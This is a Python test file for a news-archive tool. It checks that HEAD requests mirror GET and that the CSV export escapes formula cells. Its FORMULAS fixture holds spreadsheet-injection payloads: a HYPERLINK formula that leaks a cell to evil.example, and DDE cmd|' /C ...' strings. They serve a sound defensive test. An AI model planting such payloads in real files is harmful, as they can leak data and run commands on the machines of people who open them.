"""Hostile or broken input around the archive's edges: CSV cells a spreadsheet would run, imports killed or
run twice at once, records too large or too deep, addresses that are not Dask schedulers, and HEAD
requests to ``newsarchive serve``. Each test shows what a user sees: files, messages, exit codes."""

from __future__ import annotations

import http.client
import http.server
import json
import os
import signal
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest
from conftest import article, run_cli, write_site

from newsarchive import datasets
from newsarchive.build import BuildOptions, build
from newsarchive.commands.serve import ServeOptions, start

TIMEOUT = 60  # seconds: the longest a bounded wait may take on a loaded machine before the test fails


# ---- serve: HEAD answers what GET would ----

def _ask(server_url: str, method: str, path: str) -> tuple[int, dict[str, str], bytes]:
    host, port = server_url.removeprefix("http://").rstrip("/").rsplit(":", 1)
    connection = http.client.HTTPConnection(host, int(port), timeout=TIMEOUT)
    try:
        connection.request(method, path)
        response = connection.getresponse()
        body = response.read()
        headers = {k: v for k, v in response.getheaders() if k.lower() not in ("date", "last-modified")}
        return response.status, headers, body
    finally:
        connection.close()


def test_head_answers_exactly_what_get_would_without_the_body(tmp_path: Path, monkeypatch):
    site = write_site(tmp_path / "site", {
        "2018/03/storm.md": article(title="Storm hits the harbour", slug="storm"),
        "2018/03/ferry.md": article(title="Les tarifs du ferry augmentent", slug="ferry", language="fr"),
    })
    monkeypatch.chdir(site)
    server = start(site, ServeOptions(port=0))
    try:
        output = site / "build"
        bare = next(folder for folder in sorted(output.rglob("*"))
                    if folder.is_dir() and not (folder / "index.html").exists()
                    and not any(part.startswith(".") for part in folder.relative_to(output).parts))
        paths = ["/", "/2018/03/26/storm/", "/.newsarchive", "/2018/.hidden", "/nowhere/",
                 "/" + bare.relative_to(output).as_posix() + "/", "/static/style.css", "/2018"]
        for path in paths:
            got = _ask(server.url, "GET", path)
            head = _ask(server.url, "HEAD", path)
            assert head[:2] == got[:2], path
            assert head[2] == b"", path
        assert _ask(server.url, "HEAD", "/.newsarchive")[0] == 404
        assert _ask(server.url, "HEAD", paths[5])[0] == 404  # a folder without an index is never listed
    finally:
        server.stop()


# ---- CSV export: no cell a spreadsheet would run ----

FORMULAS = {
    "title": '=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez ici")',
    "source": "+cmd|' /C calc'!A0",
    "summary": "@SUM(1+1)*cmd|' /C notepad'!A1",
    "author": "-2+3+cmd|' /C explorer'!A0",
}


def test_csv_cells_a_spreadsheet_would_run_start_with_an_apostrophe_and_json_lines_keep_the_text(
        tmp_path: Path):
    site = write_site(tmp_path / "site", {
        "2018/03/2018-03-26-formula.md": article(**{k: json.dumps(v, ensure_ascii=False)
                                                    for k, v in FORMULAS.items() if k != "author"},
                                                 date="2018-03-26T07:45:00+02:00", language="fr",
                                                 author=json.dumps(FORMULAS["author"]),
                                                 tags='["=1+1", "\'@already quoted", "marée"]',
                                                 body="Le texte.\n"),
        "2018/03/2018-03-25-plain.md": article(json.dumps("'Tis the season: ferry fares rise"), "2018-03-25",
                                               "Harbour Gazette", language="en", tags='["-"]'),
    }, "title: Archives du littoral\nbase_url: https://newsarchive.example/\n")
    build(site, BuildOptions(search=False, jobs=1))
    data = site / "build/data"
    raw = (data / "articles-2018.csv").read_text(encoding="utf-8")
    cells = [cell for row in __import__("csv").reader(raw.splitlines(keepends=True)) for cell in row]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert "'=HYPERLINK(" in raw and "'+cmd|" in raw and "'@SUM(" in raw
    assert "'Tis the season" in raw and "''Tis" not in raw  # an apostrophe before plain text stays one
    exact = [json.loads(line) for line in (data / "articles-2018.jsonl").read_text(encoding="utf-8").splitlines()]
    formula = next(o for o in exact if o["title"].startswith("="))
    assert [formula[k] for k in ("title", "source", "summary")] == \
        [FORMULAS["title"], FORMULAS["source"], FORMULAS["summary"]]
    assert formula["authors"] == [FORMULAS["author"]] and formula["tags"][:2] == ["=1+1", "'@already quoted"]
    back = datasets.from_csv(raw)  # the tables' own reader takes the apostrophes off again
    assert [{k: json.loads(v) if k in ("authors", "tags") else v or None for k, v in r.items()} for r in back] \
        == exact
    package = json.loads((data / "datapackage.json").read_text(encoding="utf-8"))
    csv_resource = next(r for r in package["resources"] if r["format"] == "csv")
    assert "apostrophe" in csv_resource["description"] and "formula" in csv_resource["description"]
    assert "apostrophe" in (data / "index.html").read_text(encoding="utf-8")
